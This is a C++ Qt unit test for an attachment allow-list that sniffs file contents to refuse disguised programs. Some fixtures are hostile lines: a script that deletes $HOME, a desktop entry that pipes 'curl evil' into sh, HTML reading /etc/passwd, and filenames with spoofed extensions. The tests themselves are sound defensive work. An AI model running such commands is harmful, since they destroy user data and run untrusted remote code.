#include "models/attachments/AttachmentOpenCheck.h"
#include "models/attachments/AttachmentPolicy.h"
#include "tests/support/TestHome.h"

#include <QBuffer>
#include <QFile>
#include <QImage>
#include <QMimeDatabase>
#include <QTest>

#include <memory>

using namespace CaseDesk;

using namespace Qt::StringLiterals;

namespace
{
QByteArray image(const char* format)
{
    QImage picture(4, 4, QImage::Format_RGB32);
    picture.fill(Qt::darkCyan);
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    if (!picture.save(&buffer, format))
        qFatal("cannot write a %s image", format);
    return bytes;
}

const QByteArray kPdf = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";
const QByteArray kElf = QByteArray("\x7f"
                                   "ELF\x02\x01\x01\x00",
                                   8)
                        + QByteArray(56, '\0');
const QByteArray kWindowsProgram = QByteArray("MZ\x90\x00\x03\x00\x00\x00", 8) + QByteArray(120, '\0');
const QByteArray kShellScript = "#!/bin/sh\nrm -rf \"$HOME\"\n";
const QByteArray kDesktopEntry = "[Desktop Entry]\nType=Application\nName=Invoice\nExec=sh -c 'curl evil | sh'\n";
const QByteArray kHtml = "<!DOCTYPE html>\n<html><body><script>fetch('file:///etc/passwd')</script></body></html>\n";
const QByteArray kOle = QByteArray("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8) + QByteArray(504, '\0');
const QByteArray kZip = QByteArray("PK\x03\x04\x14\x00\x00\x00\x08\x00", 10) + QByteArray(40, 'x');
const QByteArray kText = "The B feed lost power at 04:12 UTC.\n";
const QByteArray kGif = QByteArray("GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00"
                                   "\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00;",
                                   43);
const QByteArray kRandom = QByteArray("\x00\x01\x02\x03\xfe\xff\x10\x80\x00\x7f", 10);
} // namespace

// Opening a downloaded attachment: only when its name's extension and its bytes (never the name alone) are
// of a type on the attachment allow-list; anything else is refused, naming what the bytes really are.
class TestAttachmentOpening : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void onlyAllowedTypesWithMatchingContentOpen_data();
    void onlyAllowedTypesWithMatchingContentOpen();
    void theContentTypeIsReadFromTheBytesNotTheName();

private:
    std::unique_ptr<TestHome> m_home;
};

void TestAttachmentOpening::initTestCase()
{
    m_home = std::make_unique<TestHome>();
    QVERIFY(m_home->isValid());
    QLocale::setDefault(QLocale::c());
}

void TestAttachmentOpening::onlyAllowedTypesWithMatchingContentOpen_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<bool>("mayOpen");
    QTest::addColumn<QString>("contentType");

    QTest::newRow("pdf") << u"report.pdf"_s << kPdf << true << u"application/pdf"_s;
    QTest::newRow("pdf, extension in capitals") << u"REPORT.PDF"_s << kPdf << true << u"application/pdf"_s;
    QTest::newRow("png") << u"screen.png"_s << image("PNG") << true << u"image/png"_s;
    QTest::newRow("jpeg") << u"photo.jpeg"_s << image("JPEG") << true << u"image/jpeg"_s;
    QTest::newRow("bmp") << u"photo.bmp"_s << image("BMP") << true << u"image/bmp"_s;
    QTest::newRow("gif") << u"anim.gif"_s << kGif << true << u"image/gif"_s;
    QTest::newRow("png named .jpg: both accepted") << u"photo.jpg"_s << image("PNG") << true << u"image/png"_s;
    QTest::newRow("text") << u"log.txt"_s << kText << true << u"text/plain"_s;
    QTest::newRow("docx in its zip") << u"letter.docx"_s << kZip << true << u"application/zip"_s;
    QTest::newRow("xls in its OLE container") << u"sheet.xls"_s << kOle << true << u"application/x-ole-storage"_s;
    QTest::newRow("vsd in its OLE container") << u"rack.vsd"_s << kOle << true << u"application/x-ole-storage"_s;
    QTest::newRow("two extensions, the last one counts") << u"report.exe.pdf"_s << kPdf << true << u"application/pdf"_s;
    QTest::newRow("zero-width space inside the extension")
        << QString(u"report.pd"_s + QChar(0x200B) + u"f"_s) << kPdf << true << u"application/pdf"_s;

    // Programs and scripts dressed as documents.
    QTest::newRow("Linux program named .pdf") << u"invoice.pdf"_s << kElf << false << u"application/x-"_s;
    QTest::newRow("Windows program named .pdf")
        << u"invoice.pdf"_s << kWindowsProgram << false << u"application/x-ms"_s;
    QTest::newRow("shell script named .pdf")
        << u"invoice.pdf"_s << kShellScript << false << u"application/x-shellscript"_s;
    QTest::newRow("shell script named .txt")
        << u"readme.txt"_s << kShellScript << false << u"application/x-shellscript"_s;
    QTest::newRow("desktop entry named .pdf")
        << u"invoice.pdf"_s << kDesktopEntry << false << u"application/x-desktop"_s;
    QTest::newRow("web page named .txt") << u"page.txt"_s << kHtml << false << u"text/html"_s;
    QTest::newRow("zip that is not an office file") << u"archive.pdf"_s << kZip << false << u"application/zip"_s;

    // Names that hide their real extension, or have none.
    QTest::newRow("right-to-left override hides .exe")
        << QString(u"invoice"_s + QChar(0x202E) + u"fdp.exe"_s) << kPdf << false << u"application/pdf"_s;
    QTest::newRow("program with its real extension")
        << u"setup.exe"_s << kWindowsProgram << false << u"application/x-ms"_s;
    QTest::newRow("pdf then .exe") << u"report.pdf.exe"_s << kPdf << false << u"application/pdf"_s;
    QTest::newRow("line break before .exe") << u"report.pdf\n.exe"_s << kPdf << false << u"application/pdf"_s;
    QTest::newRow("NUL before .exe") << QString(u"report.pdf"_s + QChar(0) + u".exe"_s) << kPdf << false
                                     << u"application/pdf"_s;
    QTest::newRow("trailing dot") << u"report.pdf."_s << kPdf << false << u"application/pdf"_s;
    QTest::newRow("no extension") << u"report"_s << kPdf << false << u"application/pdf"_s;
    QTest::newRow("empty name") << QString() << kPdf << false << u"application/pdf"_s;
    QTest::newRow("only a dot") << u"."_s << kPdf << false << u"application/pdf"_s;
    QTest::newRow("path separators") << u"../../.config/autostart/x.desktop"_s << kDesktopEntry << false
                                     << u"application/x-desktop"_s;

    // Bytes that cannot be told.
    QTest::newRow("empty file") << u"empty.txt"_s << QByteArray() << false << u"application/x-zerosize"_s;
    QTest::newRow("unknown binary") << u"blob.pdf"_s << kRandom << false << u"application/octet-stream"_s;
}

void TestAttachmentOpening::onlyAllowedTypesWithMatchingContentOpen()
{
    QFETCH(QString, name);
    QFETCH(QByteArray, bytes);
    QFETCH(bool, mayOpen);
    QFETCH(QString, contentType);

    const QMimeType type = QMimeDatabase().mimeTypeForData(bytes);
    const AttachmentOpenCheck check = AttachmentPolicy::bundled().openCheck(name, type);
    QVERIFY2(check.contentType.startsWith(contentType), qPrintable(check.contentType));
    QCOMPARE(check.mayOpen, mayOpen);
    if (mayOpen) {
        QVERIFY(check.message.isEmpty());
    } else {
        // The warning names the file (without its disguise) and what it really is.
        QVERIFY2(check.message.contains(check.contentType), qPrintable(check.message));
        QVERIFY2(!check.message.contains(QChar(0x202E)), qPrintable(check.message));
        QVERIFY(!check.contentTypeName.isEmpty());
    }
}

void TestAttachmentOpening::theContentTypeIsReadFromTheBytesNotTheName()
{
    QFile file(m_home->filePath(u"invoice.pdf"_s));
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(kShellScript);
    file.close();
    QCOMPARE(AttachmentPolicy::contentTypeOf(file.fileName()).name(), u"application/x-shellscript"_s);
    // A file that cannot be read has no type, and is never opened.
    const QMimeType missing = AttachmentPolicy::contentTypeOf(m_home->filePath(u"missing.pdf"_s));
    QVERIFY(!missing.isValid());
    QVERIFY(!AttachmentPolicy::bundled().openCheck(u"missing.pdf"_s, missing).mayOpen);
}

QTEST_GUILESS_MAIN(TestAttachmentOpening)
#include "tst_attachmentopening.moc"
